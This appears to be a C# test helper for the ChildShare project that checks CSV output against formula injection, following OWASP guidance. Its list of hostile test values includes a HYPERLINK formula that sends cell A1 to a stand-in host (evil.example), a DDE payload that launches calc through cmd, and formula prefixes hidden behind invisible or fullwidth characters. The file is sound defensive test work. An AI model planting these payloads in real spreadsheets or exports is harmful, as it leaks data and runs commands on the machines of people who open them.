using System.Globalization;

namespace ChildShare.Tests.Csv;

/// <summary>
/// What a spreadsheet would do with a CSV field, written from OWASP's CSV injection guidance and
/// independently of the production guard, so the tests do not grade the guard by itself.
/// </summary>
internal static class Spreadsheet
{
    /// <summary>
    /// Values a provider could put in a free-text column (program, service type) or a header, and
    /// that every CSV ChildShare writes must carry safely: formula and DDE prefixes (also behind
    /// white space, invisible characters and in fullwidth forms), delimiters, quotes, line breaks
    /// and non-ASCII text.
    /// </summary>
    public static readonly string[] Hostile =
    [
        "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1",
        "-1",
        "=1+1",
        "=",
        "-",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\r\n@SUM(A1)",
        " =1+1",
        "\u00A0+1",
        "\u200B=1+1",
        "\uFEFF@SUM(A1)",
        "\u0000=1+1",
        "\uFF1D1+1",
        "\uFF0B1",
        "\uFE63" + "1",
        "Tutoring, \"advanced\"",
        "two\r\nlines",
        "one\nline feed",
        "\"=1+1\"",
        "'already text",
        "naïve café 中文 🙂",
        "10-14",
        "a=b",
    ];

    public static IEnumerable<object[]> HostileCases => Hostile.Select(v => new object[] { v });

    /// <summary>True when a spreadsheet opening the field could evaluate it as a formula.</summary>
    public static bool RunsAsFormula(string field)
    {
        if (field.Length == 0)
        {
            return false;
        }

        if (field[0] is '\t' or '\r' or '\n')
        {
            return true;
        }

        var start = field.SkipWhile(c => char.IsWhiteSpace(c) || char.IsControl(c) || CharUnicodeInfo.GetUnicodeCategory(c) == UnicodeCategory.Format)
            .Select(c => (char?)c).FirstOrDefault();
        return start is '=' or '+' or '-' or '@' or '\uFF1D' or '\uFF0B' or '\uFF0D' or '\uFF20' or '\uFE66' or '\uFE62' or '\uFE63' or '\uFE6B';
    }

    /// <summary>The field a safe CSV must carry for <paramref name="value"/>: the value, or the value behind an apostrophe when it would run.</summary>
    public static string Expected(string value) => RunsAsFormula(value) ? "'" + value : value;
}
